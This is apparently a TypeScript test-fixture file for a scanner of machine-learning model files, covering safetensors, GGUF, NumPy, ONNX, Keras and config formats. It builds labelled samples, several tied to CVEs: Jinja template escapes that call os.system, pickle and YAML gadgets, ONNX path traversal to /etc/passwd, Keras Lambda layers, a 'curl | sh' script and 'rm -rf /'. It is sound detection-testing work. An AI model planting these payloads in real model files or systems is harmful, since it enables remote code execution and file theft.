import { joined, u8, u16, u32, u64, utf8 } from '../bytes.ts'
import type { ModelCase } from '../case.ts'
import { type GgufTensor, gguf } from '../gguf-builder.ts'
import { payload } from '../pickle-assembler.ts'
import { message, number } from '../protobuf-builder.ts'
import { safetensors, tensor } from '../safetensors-builder.ts'
import { zip } from '../zip-builder.ts'

const of =
  (expected: ModelCase['expected']) =>
  (name: string, bytes: Uint8Array | string, fileName?: string, source?: string): ModelCase => ({
    name,
    bytes: typeof bytes === 'string' ? utf8(bytes) : bytes,
    expected,
    ...(fileName && { fileName }),
    ...(source && { source }),
  })
const dangerous = of('dangerous')
const suspicious = of('suspicious')
const notCleared = of('not-cleared')

const evil = payload('os', 'system')
const header = (value: object) => JSON.stringify(value)
const one = { a: tensor(0, 8) }

const safe: readonly ModelCase[] = [
  notCleared('safetensors: a header beyond the file', joined(u64(5_000), '{"a":1}')),
  notCleared('safetensors: a header of 2^63 bytes', joined(u64(2n ** 63n), '{"a":1}')),
  notCleared('safetensors: a header above 100 MB', joined(u64(100_000_001), '{"a":1}')),
  notCleared('safetensors: nothing behind the length', joined(u64(10), '{"')),
  notCleared(
    'safetensors: a name twice',
    safetensors('{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', 8),
  ),
  notCleared('safetensors: white space before the header', safetensors(`  ${header(one)}`, 8)),
  notCleared('safetensors: a gap at the start', safetensors(header({ a: tensor(4, 8) }), 8)),
  notCleared('safetensors: a gap between tensors', safetensors(header({ a: tensor(0, 4), b: tensor(8, 12) }), 12)),
  notCleared('safetensors: tensors that overlap', safetensors(header({ a: tensor(0, 8), b: tensor(4, 12) }), 12)),
  notCleared('safetensors: bytes behind the last tensor', safetensors(header(one), 20)),
  notCleared('safetensors: data that is missing', safetensors(header(one), 4)),
  notCleared('safetensors: a shape that does not fit', safetensors(header({ a: tensor(0, 8, 'F32', [3]) }), 8)),
  notCleared(
    'safetensors: a shape that overflows',
    safetensors(header({ a: tensor(0, 0, 'F32', [2 ** 40, 2 ** 40, 0]) }).replace('[0,0]', '[0,-1]'), 0),
  ),
  notCleared('safetensors: a type that does not exist', safetensors(header({ a: tensor(0, 8, 'F99', [2]) }), 8)),
  notCleared('safetensors: a type named like a property of objects', safetensors(header({ a: tensor(0, 8, 'constructor', [2]) }), 8)),
  notCleared('safetensors: offsets the wrong way round', safetensors(header({ a: { dtype: 'F32', shape: [2], data_offsets: [8, 0] } }), 8)),
  notCleared('safetensors: offsets under another name', safetensors(header({ a: { dtype: 'F32', shape: [2], offsets: [0, 8] } }), 8)),
  notCleared('safetensors: a field that is not known', safetensors(header({ a: { ...tensor(0, 8), code: 'x' } }), 8)),
  notCleared('safetensors: metadata that is no text', safetensors(header({ __metadata__: { a: 1 }, ...one }), 8)),
  notCleared('safetensors: JSON nested ten thousand deep', safetensors(`{"a":${'['.repeat(10_000)}`)),
  notCleared('safetensors: a header that is no UTF-8', joined(u64(4), '{"', u8(0xff, 0xfe))),
  notCleared('safetensors: fractions', safetensors(header({ a: { dtype: 'F32', shape: [2], data_offsets: [0, 8.5] } }), 9)),
  // The low byte of the length is GLOBAL: the module is the rest of the line, and nothing of that name exists.
  notCleared('safetensors whose length reads as an import', joined(u64(0x63), '{\nos\n'), 'm.safetensors'),
]

const tensors: readonly GgufTensor[] = [{ name: 'a', sizes: [8], type: 0, offset: 0 }]
const llama = { 'general.architecture': 'llama' }
const templated = (template: string) => gguf({ ...llama, 'tokenizer.chat_template': template }, tensors, 32)
const breakout = "{{ self.__init__.__globals__.__builtins__.__import__('os').system('id') }}"
const ggufs: readonly ModelCase[] = [
  dangerous('GGUF: a template that reaches Python', templated(breakout), 'm.gguf', 'CVE-2024-34359'),
  dangerous('GGUF: a template with item access', templated("{% set x = ''['__class__']['__mro__'][1]['__subclasses__']() %}{{ x }}")),
  dangerous('GGUF: a template with the filter attr', templated("{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}")),
  dangerous('GGUF: a template that puts underscores together', templated("{% set u = '_' %}{{ ''|map(attribute=u~u~'class'~u~u) }}")),
  dangerous('GGUF: a template with cycler', templated('{{ cycler.next.func_globals }}')),
  dangerous('GGUF: a template with lipsum', templated("{{ lipsum['x'].os.popen('id').read() }}"), 'm.gguf', 'CVE-2026-5760'),
  dangerous(
    'GGUF: a second template',
    gguf({ ...llama, 'tokenizer.chat_template': 'x', 'tokenizer.chat_template.tool_use': breakout }, tensors, 32),
  ),
  dangerous('GGUF: a template in a block that is not closed', templated("{{ ''.__class__")),
  suspicious('GGUF: a template that includes a file', templated("{% include '/etc/passwd' %}")),
  notCleared('GGUF: version 0', gguf(llama, tensors, 32, { version: 0 })),
  notCleared('GGUF: version 9', gguf(llama, tensors, 32, { version: 9 })),
  notCleared('GGUF: it ends in the header', gguf(llama, tensors, 32).subarray(0, 20)),
  notCleared('GGUF: 2^63 tensors', joined('GGUF', u32(3), u64(2n ** 63n), u64(0))),
  notCleared('GGUF: 2^63 pairs', joined('GGUF', u32(3), u64(0), u64(2n ** 63n))),
  notCleared('GGUF: a key of 2^63 bytes', joined('GGUF', u32(3), u64(0), u64(1), u64(2n ** 63n), 'x')),
  notCleared('GGUF: a text of 2^63 bytes', joined('GGUF', u32(3), u64(0), u64(1), u64(1), 'k', u32(8), u64(2n ** 63n))),
  notCleared(
    'GGUF: an array of 2^63 numbers',
    joined('GGUF', u32(3), u64(0), u64(1), u64(1), 'k', u32(9), u32(4), u64(2n ** 63n)),
    'm.gguf',
    'CVE-2025-53630',
  ),
  notCleared(
    'GGUF: arrays in arrays in arrays',
    joined(
      'GGUF',
      u32(3),
      u64(0),
      u64(1),
      u64(1),
      'k',
      u32(9),
      ...Array.from({ length: 50 }, () => joined(u32(9), u64(1))),
      new Uint8Array(64),
    ),
  ),
  notCleared('GGUF: a type of value that does not exist', joined('GGUF', u32(3), u64(0), u64(1), u64(1), 'k', u32(99), u64(0))),
  notCleared('GGUF: a truth value of 7', joined('GGUF', u32(3), u64(0), u64(1), u64(1), 'k', u32(7), u8(7), u64(0))),
  notCleared('GGUF: an alignment of 3', gguf({ ...llama, 'general.alignment': 3 }, tensors, 32)),
  notCleared('GGUF: a tensor beyond the file', gguf(llama, tensors, 16), 'm.gguf', 'CVE-2026-7482'),
  notCleared('GGUF: an offset of 2^63', gguf(llama, [{ name: 'a', sizes: [8], type: 0, offset: 2n ** 63n }], 32)),
  notCleared(
    'GGUF: dimensions that overflow',
    gguf(llama, [{ name: 'a', sizes: [2n ** 32n, 2n ** 32n, 2n ** 32n], type: 0, offset: 0 }], 32),
  ),
  notCleared('GGUF: nine dimensions', gguf(llama, [{ name: 'a', sizes: [1, 1, 1, 1, 1, 1, 1, 1, 8], type: 0, offset: 0 }], 32)),
  notCleared('GGUF: tensors that overlap', gguf(llama, [...tensors, { name: 'b', sizes: [8], type: 0, offset: 0 }], 32)),
  notCleared('GGUF: a type of tensor that does not exist', gguf(llama, [{ name: 'a', sizes: [8], type: 99, offset: 0 }], 32)),
  notCleared('GGUF: a tensor of which a block is cut', gguf(llama, [{ name: 'a', sizes: [31], type: 2, offset: 0 }], 32)),
  notCleared('GGUF: a tensor twice', gguf(llama, [...tensors, { name: 'a', sizes: [8], type: 0, offset: 32 }], 64)),
  notCleared('GGUF: a gap between tensors', gguf(llama, [...tensors, { name: 'b', sizes: [8], type: 0, offset: 64 }], 96)),
  notCleared('GGUF: bytes behind the last tensor', gguf(llama, tensors, 4_096)),
]

const npy = (head: string, data: Uint8Array = new Uint8Array(), major = 1) =>
  joined('\x93NUMPY', u8(major, 0), major === 1 ? u16(head.length) : u32(head.length), head, data)
const array = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
const npys: readonly ModelCase[] = [
  dangerous('npy: an array of objects that is a payload', npy(array, evil), 'm.npy'),
  dangerous(
    'npy: a structured type with objects',
    npy("{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }\n", evil),
  ),
  dangerous('npy: version 2', npy(array, evil, 2)),
  dangerous('npz: an array of objects', zip([{ name: 'a.npy', content: npy(array, evil) }]), 'm.npz'),
  dangerous(
    'npy: a payload behind the array',
    npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }\n", joined(new Uint8Array(4), evil)),
  ),
  notCleared(
    'npy: an expression in the header',
    npy("{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,), }\n", new Uint8Array(8)),
  ),
  notCleared('npy: a header of 4 GB', joined('\x93NUMPY', u8(2, 0), u32(0xffff_ffff))),
  notCleared('npy: data that is missing', npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1000000,), }\n", new Uint8Array(8))),
  notCleared('npy: version 9', npy(array, evil, 9).fill(9, 6, 7)),
]

const opset = message(8, message(1, ''), number(2, 17))
const model = (...graph: readonly Uint8Array[]) => joined(number(1, 8), message(7, ...graph), opset)
const external = (location: string) => message(5, message(8, 'w'), message(13, message(1, 'location'), message(2, location)), number(14, 1))
const relu = message(1, message(1, 'x'), message(2, 'y'), message(4, 'Relu'))
const onnx: readonly ModelCase[] = [
  dangerous('ONNX: data above the folder', model(relu, external('../../../etc/passwd')), 'm.onnx', 'CVE-2022-25882'),
  dangerous('ONNX: data under an absolute path', model(relu, external('/etc/shadow'))),
  dangerous('ONNX: data above the folder by backslashes', model(relu, external('..\\..\\secret'))),
  dangerous(
    'ONNX: data above the folder in a subgraph',
    model(message(1, message(4, 'If'), message(5, message(1, 'then'), message(6, external('../x'))))),
  ),
  dangerous(
    'ONNX: data above the folder in an attribute',
    model(message(1, message(4, 'Constant'), message(5, message(5, message(13, message(1, 'location'), message(2, '../x')))))),
  ),
  dangerous('ONNX: an operator that runs Python', model(message(1, message(4, 'PyOp'), message(7, 'ai.onnx.contrib')))),
  suspicious('ONNX: an operator of a library of its own', model(message(1, message(4, 'Custom'), message(7, 'evil.corp')))),
  suspicious(
    'ONNX: an operator of its own in a function',
    joined(number(1, 8), message(7, relu), opset, message(25, message(1, 'f'), message(7, message(4, 'X'), message(7, 'evil.corp')))),
  ),
  notCleared('ONNX: cut off', model(relu, external('weights')).subarray(0, 40)),
  notCleared('ONNX: a field that reaches beyond its message', joined(number(1, 8), message(7, u8(0x0a, 0x7f, 0)), opset)),
  notCleared(
    'ONNX: graphs in graphs',
    model([...Array(40)].reduce<Uint8Array>((inner) => message(1, message(5, message(6, inner))), relu)),
  ),
]

const layer = (class_name: string, config: object, more: object = {}) => ({ class_name, config, ...more })
const sequential = (...layers: readonly object[]) => layer('Sequential', { layers })
const keras = (config: object) =>
  zip([
    { name: 'metadata.json', content: utf8('{"keras_version":"3.0.0"}') },
    { name: 'config.json', content: utf8(JSON.stringify(config)) },
    { name: 'model.weights.h5', content: new Uint8Array() },
  ])
const kerass: readonly ModelCase[] = [
  dangerous(
    'Keras: a Lambda layer',
    keras(sequential(layer('Lambda', { function: layer('__lambda__', { code: '4wEAAA==' }) }, { module: 'keras.layers' }))),
    'm.keras',
    'CVE-2024-3660',
  ),
  dangerous(
    'Keras: a module of Python',
    keras(sequential(layer('function', {}, { module: 'os', registered_name: 'system' }))),
    'm.keras',
    'CVE-2025-1550',
  ),
  dangerous('Keras: get_file', keras(sequential(layer('get_file', {}, { module: 'keras.utils' }))), 'm.keras', 'CVE-2025-8747'),
  dangerous(
    'Keras: enable_unsafe_deserialization',
    keras(sequential(layer('enable_unsafe_deserialization', {}, { module: 'keras.config' }))),
    'm.keras',
    'CVE-2025-9906',
  ),
  dangerous(
    'Keras: TorchModuleWrapper',
    keras(sequential(layer('TorchModuleWrapper', { module: 'x' }, { module: 'keras.layers' }))),
    'm.keras',
    'CVE-2025-49655',
  ),
  dangerous(
    'Keras: a vocabulary from a path',
    keras(sequential(layer('StringLookup', { vocabulary: '/etc/passwd' }, { module: 'keras.layers' }))),
    'm.keras',
    'CVE-2025-12058',
  ),
  dangerous(
    'Keras: a Lambda layer in a JSON file',
    JSON.stringify(sequential(layer('Lambda', { function: ['4wEAAA==', null, null] }))),
    'model.json',
  ),
  dangerous('Keras: a Lambda layer deep inside', keras(sequential(layer('TimeDistributed', { layer: layer('Lambda', {}) }))), 'm.keras'),
  dangerous(
    'Keras: a Lambda layer written with escapes',
    zip([
      { name: 'metadata.json', content: utf8('{}') },
      { name: 'config.json', content: utf8('{"class_name":"\\u004cambda","config":{}}') },
      { name: 'model.weights.h5', content: new Uint8Array() },
    ]),
    'm.keras',
  ),
  suspicious(
    'Keras: a function by name',
    keras(sequential(layer('function', {}, { config: 'my_loss', module: 'builtins', registered_name: 'function' }))),
  ),
  suspicious('Keras: a class that is not its own', keras(sequential(layer('Net', {}, { module: null, registered_name: 'Company>Net' })))),
]

/** Above the size up to which JSON is taken into memory whole. */
const large = (members: string) =>
  `{"vocab":{${Array.from({ length: 70_000 }, (_, index) => `"token${index}": ${index}`).join(',')}},${members}}`

const texts: readonly ModelCase[] = [
  suspicious('auto_map', '{"model_type":"x","auto_map":{"AutoModel":"modeling_x.X"}}', 'config.json'),
  suspicious('custom_pipelines', '{"custom_pipelines":{"x":{"impl":"x.P"}}}', 'config.json'),
  suspicious('trust_remote_code', '{"trust_remote_code":true}', 'config.json'),
  suspicious('trust_remote_code in YAML', 'model: x\ntrust_remote_code: true\n', 'serve.yaml'),
  suspicious('a class that Hydra makes', '{"_target_":"company.Net"}', 'config.json'),
  dangerous('a call that Hydra makes', '{"_target_":"os.system","command":"id"}', 'config.json', 'CVE-2025-23304'),
  dangerous('a module of sentence-transformers that is none', '[{"idx":0,"name":"0","path":"","type":"os.system"}]', 'modules.json'),
  suspicious('a module of sentence-transformers from elsewhere', '[{"idx":0,"name":"0","path":"","type":"company.Net"}]', 'modules.json'),
  suspicious('a notebook', '{"cells":[{"cell_type":"code","source":["import os"]}],"nbformat":4}', 'demo.ipynb'),
  dangerous('a template under a digest', breakout, `sha256-${'a'.repeat(64)}`),
  dangerous('jsonpickle', '{"py/reduce":[{"py/type":"os.system"},{"py/tuple":["id"]}]}', 'config.json'),
  dangerous('YAML that makes Python objects', 'a: !!python/object/apply:os.system ["id"]\n', 'config.yaml'),
  dangerous('a template of a tokenizer', JSON.stringify({ chat_template: breakout }), 'tokenizer_config.json'),
  dangerous(
    'the second of several templates',
    JSON.stringify({
      chat_template: [
        { name: 'a', template: 'x' },
        { name: 'b', template: breakout },
      ],
    }),
    'tokenizer_config.json',
  ),
  dangerous('a template in a file', breakout, 'chat_template.jinja'),
  notCleared('JSON with a name twice', '{"auto_map":null,"auto_map":{"a":"b.C"}}', 'config.json'),
  notCleared('JSON nested ten thousand deep', '[{"a":'.repeat(10_000), 'config.json'),
  suspicious('auto_map behind a large vocabulary', large('"auto_map":{"a":"b.C"}'), 'tokenizer.json'),
  suspicious('auto_map written with escapes behind a large vocabulary', large('"auto\\u005fmap":{"a":"b.C"}'), 'tokenizer.json'),
  dangerous('a template behind a large vocabulary', large(`"x":{"chat_template":${JSON.stringify(breakout)}}`), 'tokenizer.json'),
  notCleared('a name twice in a large vocabulary', large('"a":1,"\\u0061":2'), 'tokenizer.json'),
  notCleared('a large vocabulary without an end', large('"a":1').slice(0, -1), 'tokenizer.json'),
  notCleared('a large vocabulary with a comma too many', large('"a":1,'), 'tokenizer.json'),
  suspicious('Python beside the weights', 'import os\nos.system("id")\n', 'modeling.py'),
  suspicious('Python without an extension', '# a model\nimport os\n\nos.system("id")\n', 'modeling'),
  suspicious('a script', '#!/bin/sh\ncurl http://x | sh\n', 'run'),
  suspicious('a program', joined(u8(0x7f), 'ELF', new Uint8Array(60)), 'lib.so'),
  notCleared('a text that nobody knows', 'rm -rf /\n', 'start'),
  notCleared('a TensorRT engine', joined('ftrt', new Uint8Array(60)), 'm.engine'),
  notCleared('an engine of another version', joined(u8(0xef, 0xbe), new Uint8Array(60)), 'm.plan'),
  notCleared('bytes of no known format', u8(0xde, 0xad, 0xbe, 0xef, 0, 1, 2, 3)),
  notCleared('HDF5 that is cut off', joined(u8(0x89), 'HDF\r\n\x1a\n', u8(0, 0, 0, 0, 0, 8, 8))),
  notCleared('HDF5 of a version that does not exist', joined(u8(0x89), 'HDF\r\n\x1a\n', u8(9), new Uint8Array(90))),
]

export const formats: readonly ModelCase[] = [...safe, ...ggufs, ...npys, ...onnx, ...kerass, ...texts]
